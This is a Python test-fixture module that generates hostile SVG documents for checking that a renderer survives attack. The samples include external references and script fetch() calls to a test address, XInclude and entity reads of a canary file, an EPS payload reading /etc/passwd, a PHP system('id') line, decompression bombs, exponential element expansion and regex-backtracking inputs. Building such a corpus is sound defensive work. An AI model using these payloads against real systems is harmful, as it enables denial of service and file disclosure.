"""Hostile SVG documents: every class of attack that is known to matter, and broken ones from mutation.

``hostile_documents(address, canary)`` gives ``name -> document`` (text or bytes); ``address`` is a host and port that
must see no connection, ``canary`` a file that must not be read.
"""

import base64
import gzip
import io
import random
import zlib
from typing import Any

from PIL import Image
from pivot.environments.svg.icons import draw_target
from pivot.tests.dataset.containers import png_of
from pivot.tests.tables import load_table

TABLE: dict[str, dict[str, Any]] = load_table(__file__, "hostile.json")
NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def svg(body: str, view: str = "0 0 100 100", attributes: str = "") -> str:
    return f'<svg {NAMESPACES} viewBox="{view}" {attributes}>{body}</svg>'


def data_uri(kind: str, data: bytes) -> str:
    return f"data:{kind};base64,{base64.b64encode(data).decode()}"


def hostile_documents(address: str, canary: str) -> dict[str, str | bytes]:
    documents: dict[str, str | bytes] = {}
    makers = (_blow_ups, _numbers, _images, _not_documents, _odd_structures, _mutations, _sticky, slow_but_legal)
    for group in (_external(address, canary), _entities(address, canary), *(make() for make in makers)):
        assert not documents.keys() & group.keys()
        documents |= group
    return documents


def _filled(text: str, **values: str) -> str:
    """Replace names in capitals by their values."""
    for name, value in values.items():
        text = text.replace(name, value)
    return text


def _external(address: str, canary: str) -> dict[str, str | bytes]:
    """Return references to other files or addresses, in every form that SVG has."""
    urls = {kind: _filled(url, ADDRESS=address, CANARY=canary) for kind, url in TABLE["urls"].items()}
    documents: dict[str, str | bytes] = {
        f"external {way} {kind}": svg(_filled(form, URL=url.replace("&", "&amp;")))
        for way, form in TABLE["ways"].items()
        for kind, url in urls.items()
        if kind in ("http", "file", "path", "no-scheme") or way in ("image", "use", "style-import")
    }
    for name, line in TABLE["prologues"].items():
        body = svg('<rect width="9" height="9"/>')
        documents[f"external {name}"] = _filled(line, ADDRESS=address, CANARY=canary) + body
    nested = svg(f'<image width="9" height="9" href="http://{address}/x.png"/><image href="{canary}"/>')
    documents["external nested data"] = svg(
        f'<image width="9" height="9" href="{data_uri("image/svg+xml", nested.encode())}"/>'
    )
    documents["external script"] = svg(f'<script href="http://{address}/x.js">fetch("http://{address}")</script>')
    documents["external xinclude"] = svg(
        f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" parse="text" href="{canary}"/>'
    )
    documents["external foreign"] = svg(f'<foreignObject><iframe src="http://{address}"/></foreignObject>')
    return documents


def _entities(address: str, canary: str) -> dict[str, str | bytes]:
    kinds = {name: _filled(each, ADDRESS=address, CANARY=canary) for name, each in TABLE["entities"].items()}
    documents: dict[str, str | bytes] = {}
    for name, declaration in kinds.items():
        uses = "&x;" * (500 if name == "quadratic" else 1)
        documents[f"entity {name} in text"] = f"<!DOCTYPE svg [{declaration}]>" + svg(f"<text y='9'>{uses}</text>")
        documents[f"entity {name} in attribute"] = f"<!DOCTYPE svg [{declaration}]>" + svg(f"<path d='{uses}'/>")
    documents["entity undefined"] = svg("<text>&nope;</text>")
    documents["attribute defaults"] = '<!DOCTYPE svg [<!ATTLIST rect width CDATA "1e308">]>' + svg("<rect height='1'/>")
    return documents


def _blow_ups() -> dict[str, str | bytes]:
    """Return small documents that need much work, and large ones: one per limit, loop and regular expression."""
    doubling = "".join(f'<g id="a{k}"><use href="#a{k - 1}"/><use href="#a{k - 1}" x="1"/></g>' for k in range(1, 17))
    dot = '<rect id="a0" width="1" height="1"/>'
    return {
        "use doubling": svg(f"<defs>{dot}{doubling}</defs><use href='#a16'/>"),
        "use circle": svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
        "pattern of itself": svg(
            '<pattern id="p" width="1" height="1"><rect fill="url(#p)" width="9" height="9"/></pattern>'
            '<rect width="99" height="99" fill="url(#p)"/>'
        ),
        "pattern huge": svg(
            '<pattern id="p" width="1e6" height="1e6" patternUnits="userSpaceOnUse"><rect width="1e6" '
            'height="1e6"/></pattern><rect width="99" height="99" fill="url(#p)"/>',
            "0 0 1 1",
        ),
        "marker of itself": svg(
            '<marker id="m"><path d="M0 0L1 1" marker-end="url(#m)"/></marker><path d="M0 0L9 9" marker-end="url(#m)"/>'
        ),
        "gradient circle": svg(
            '<linearGradient id="g" xlink:href="#h"/><linearGradient id="h" xlink:href="#g"/>'
            '<rect width="9" height="9" fill="url(#g)"/>'
        ),
        "groups nested": svg("<g>" * 60_000 + "</g>" * 60_000),
        "elements too many": svg('<rect width="1" height="1"/>' * 200_000),
        "strokes dashed": svg('<path d="M0 0H100" stroke="red" stroke-dasharray="1e-9 1e-9"/>'),
        "path of 50 MB": svg(f'<path d="M0 0{"L1 1" * 13_000_000}"/>'),
        "path of 500 KB": svg(f'<path d="M0 0{"L9 1L1 9" * 60_000}" stroke="red"/>'),
        "path backtracking": svg(f'<path d="{"0" * 400_000}"/>'),
        "style selectors": svg(f"<style>{'g ' * 5_000}{{fill:red}}</style>" + "<g>" * 200 + "</g>" * 200),
        "style attribute": svg(f'<rect style="{"fill:red;" * 50_000}" width="9" height="9"/>'),
        "attributes many": svg("<g " + " ".join(f'a{k}="1"' for k in range(40_000)) + "/>"),
        "text long": svg(f'<text y="50">{"x" * 400_000}</text>'),
        "text huge": svg('<text y="50" font-size="1e9">x</text>'),
        "hash collisions": svg(
            "<g " + " ".join(f'{chr(97 + k % 26)}{k * 2654435761 % 2**32}=""' for k in range(30_000)) + "/>"
        ),
        "color": svg(f'<rect width="9" height="9" fill="rgb({"1," * 100_000})"/>'),
        "url backtracking": svg(f'<rect width="9" height="9" style="fill:url({"(" * 20_000}"/>'),
        "quotes backtracking": svg("<rect style='fill:url(\"" + "\\a" * 50_000 + "'/>"),
        "font shorthand": svg(f'<text y="9" style="font:{"a, " * 30}!">x</text>'),
        "font shorthand long": svg(f'<text y="9" style="font:{"aa " * 3_000}!">x</text>'),
    }


def _numbers() -> dict[str, str | bytes]:
    documents: dict[str, str | bytes] = {}
    numbers = ("1e308", "1e999", "nan", "inf", "1e-320", "9" * 5_000, "0x10", "1e", "-", "1%%")
    for number in numbers:
        label = number if len(number) < 10 else f"{number[:3]}..."
        for name, parts in TABLE["numbers"].items():
            documents[f"number {name} {label}"] = svg(*(_filled(part, NUMBER=number) for part in parts))
    # An endless loop in C, tried once because it costs a worker.
    return documents | {"number circle 1e308": svg('<circle r="1e308"/>'), "number circle -1": svg('<circle r="-1"/>')}


def _images() -> dict[str, str | bytes]:
    def embed(kind: str, data: bytes) -> str:
        return svg(f'<image width="9" height="9" href="{data_uri(kind, data)}"/>')

    bomb = zlib.compress(bytes(12_000 * (3 * 12_000 + 1)), 1)
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4)).save(buffer, "TIFF")
    small = svg('<rect width="9" height="9"/>').encode()
    deep = small
    for _ in range(8):
        deep = embed("image/svg+xml", deep).encode()
    script = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n%%EndComments\n(/etc/passwd) (r) file\n%%EOF\n"
    return {
        "image 12k": embed("image/png", png_of(12_000, 12_000, bomb)),
        "image 12k empty": embed("image/png", png_of(12_000, 12_000)),
        "image 2^31": embed("image/png", png_of(2**31 - 1, 2**31 - 1)),
        "image torn": embed("image/png", png_of(9, 9, zlib.compress(bytes(280)))[:60]),
        "image postscript": embed("image/eps", script),
        "image tiff": embed("image/tiff", buffer.getvalue()),
        "image text": embed("text/plain", b"hello"),
        "image empty": embed("image/png", b""),
        "image not base64": svg('<image width="9" height="9" href="data:image/png;base64,%%%"/>'),
        "image svg in svg": embed("image/svg+xml", deep),
        "image svgz": embed("image/svg+xml", gzip.compress(small)),
        "image svgz bomb": embed("image/svg+xml", gzip.compress(svg(" " * 60_000_000).encode(), 9)),
        "image huge": svg(f'<image width="1e9" height="1e9" href="{data_uri("image/png", png_of(1, 1))}"/>'),
        **encoded_pictures(),
        "image of itself": svg('<image id="a" width="9" height="9" href="#a"/><image width="9" height="9" href=""/>'),
    }


def encoded_pictures() -> dict[str, str]:
    """Documents with one small picture in every format that Pillow can write, and some in odd forms."""
    documents: dict[str, str] = {}
    tile = Image.new("RGB", (4, 4), "red")
    turned = Image.Exif()
    turned[0x0112] = 6
    forms = [(kind, tile, {}) for kind in ("PNG", "JPEG", "GIF", "WEBP", "BMP", "PPM", "TIFF", "ICO", "TGA", "PCX")]
    forms += [(kind, tile, {}) for kind in ("SGI", "DDS", "ICNS", "AVIF", "JPEG2000")]
    forms += [("JPEG", tile.convert("CMYK"), {}), ("WEBP", tile.convert("RGBA"), {"lossless": True})]
    forms += [("JPEG", tile, {"exif": turned}), ("WEBP", tile, {"exif": turned})]
    for number, (kind, picture, options) in enumerate(forms):
        buffer = io.BytesIO()
        try:
            picture.save(buffer, kind, **options)
        except (OSError, KeyError):  # this Pillow has no such encoder
            continue
        name = f"picture {kind} {picture.mode} {number}"
        documents[name] = svg(f'<image width="9" height="9" href="{data_uri("image/x", buffer.getvalue())}"/>')
    return documents


def _not_documents() -> dict[str, str | bytes]:
    plain = svg('<rect width="9" height="9"/>')
    return {
        "nothing": "",
        "nothing bytes": b"",
        "white space": " \n\t",
        "gzip": gzip.compress(plain.encode()),
        "gzip bomb": gzip.compress(bytes(50_000_000), 9),
        "gzip header": b"\x1f\x8b",
        "nul": plain.replace("rect", "re\0ct"),
        "nul bytes": b"\0" * 1000,
        "latin": "<svg>é</svg>".encode("latin-1"),
        "utf-16": plain.encode("utf-16"),
        "utf-32": plain.encode("utf-32"),
        "utf-7": b'<?xml version="1.0" encoding="utf-7"?>+ADw-svg/+AD4-',
        "encoding unknown": '<?xml version="1.0" encoding="x-none"?>' + plain,
        "encoding other": '<?xml version="1.0" encoding="utf-16"?>' + plain,
        "surrogate": "<svg>\ud800</svg>",
        "byte order mark": "\ufeff" + plain,
        "html": "<html><body><svg/></body></html>",
        "other namespace": '<svg xmlns="http://example.org/"/>',
        "no namespace": '<svg viewBox="0 0 9 9"><rect width="9" height="9"/></svg>',
        "two roots": plain + plain,
        "text": "I cannot draw this.",
        "json": '{"svg": 1}',
        "tag only": "<svg",
        "cdata": svg("<![CDATA[" + "]" * 1000 + "]]>"),
        "instruction": "<?php system('id'); ?>" + plain,
        "controls": svg("<text>\x01\x02</text>"),
        "too large": svg(" " * 600_000),
        "too large in bytes": svg("人" * 200_000),
    }


def _odd_structures() -> dict[str, str | bytes]:
    documents: dict[str, str | bytes] = {f"odd {name}": svg(body) for name, body in TABLE["odd"].items()}
    documents["odd view"] = svg('<rect width="9" height="9"/>', "a b c d")
    documents["odd view short"] = svg('<rect width="9" height="9"/>', "0 0")
    documents["odd view zero"] = svg('<rect width="9" height="9"/>', "0 0 0 0")
    documents["odd aspect"] = svg('<rect width="9" height="9"/>', "0 0 9 9", 'preserveAspectRatio="xMidYMax evil"')
    return documents


MARKS = ("", "<", ">", "&", '"', "1e30", "-", "/>", "<g>", "</g>", "url(#g0)")


def _mutations(count: int = 60) -> dict[str, str | bytes]:
    """Targets with random damage: characters, tags and numbers replaced, parts repeated or lost."""
    documents: dict[str, str | bytes] = {}
    for seed in range(count):
        rng = random.Random(seed)
        text = draw_target(rng)
        for _ in range(rng.randrange(1, 6)):
            at, length = rng.randrange(len(text)), rng.randrange(1, 30)
            repeated = text[at : at + length] * 3
            replacement = rng.choice([*MARKS, repeated, "\ufffd"])
            text = text[:at] + replacement + text[at + length :]
        documents[f"mutation {seed}"] = text
    return documents


FACES = [
    f'font-style="{slant}" font-weight="{weight}"'
    for slant in ("normal", "italic", "oblique")
    for weight in ("normal", "bold")
]


def _sticky() -> dict[str, str | bytes]:
    """Text drawn larger than the font library can: its error stays with the face for every later drawing."""
    documents: dict[str, str | bytes] = {
        f"sticky face {face}": svg(f'<text y="50" font-size="70000" {face}>x</text>') for face in FACES[::2]
    }
    huge = '<text y="9" font-size="1e6">x</text>'
    return documents | {
        "sticky scale": svg('<g transform="scale(7000)"><text y="9" font-size="10">x</text></g>'),
        "sticky view": svg('<text y="9" font-size="10">x</text>', "0 0 .01 .01"),
        "sticky pattern": svg(
            f'<pattern id="p" width="9" height="9" patternUnits="userSpaceOnUse">{huge}</pattern>'
            '<rect width="99" height="99" fill="url(#p)"/>'
        ),
        "sticky mask": svg(f'<mask id="m">{huge}</mask><rect width="99" height="99" mask="url(#m)"/>'),
        "sticky clip": svg(f'<clipPath id="c">{huge}</clipPath><rect width="99" height="99" clip-path="url(#c)"/>'),
        "sticky span": svg('<text y="9">x<tspan font-size="1e6" font-weight="bold">x</tspan></text>'),
        "sticky link": svg('<a y="9" font-size="1e6">x</a>'),
        "sticky picture": svg(f'<image width="9" height="9" href="{data_uri("image/svg+xml", svg(huge).encode())}"/>'),
        "sticky twice": svg(huge + '<g font-weight="bold">' + huge + "</g>"),
    }


def slow_but_legal() -> dict[str, str | bytes]:
    """Large valid drawings, 0.05 to 0.15 s of processor time each, so that slow machines stay in the limit."""
    return {
        "slow paths": svg(
            "".join(
                f'<path d="M{k % 97} {k % 89}C{k % 13} 99 99 {k % 7} {k % 50} 50" fill="none" stroke="#{k:03x}"/>'
                for k in range(400)
            )
        ),
        "slow groups": svg(
            "".join(f'<g opacity=".9"><circle cx="{k % 97}" cy="{k % 89}" r="3"/></g>' for k in range(300))
        ),
        "slow texts": svg(
            "".join(f'<text x="{k % 97}" y="{k % 89}" font-size="{5 + k % 9}">Ag {k}</text>' for k in range(300))
        ),
    }


def writing() -> str:
    """Return a good document with text in every face: on the picture, in a pattern and in a mask."""
    lines = "".join(f'<text y="{16 * row}" font-size="16" {face}>Ag</text>' for row, face in enumerate(FACES, 1))
    return svg(
        '<rect x="10" y="20" width="50" height="60" fill="#08c"/>'
        f'{lines}<pattern id="p" width="40" height="99" patternUnits="userSpaceOnUse">{lines}</pattern>'
        f'<mask id="m"><g fill="#fff">{lines}</g></mask><rect x="40" width="60" height="99" fill="url(#p)"/>'
        '<rect x="70" width="30" height="99" fill="red" mask="url(#m)"/>'
    )
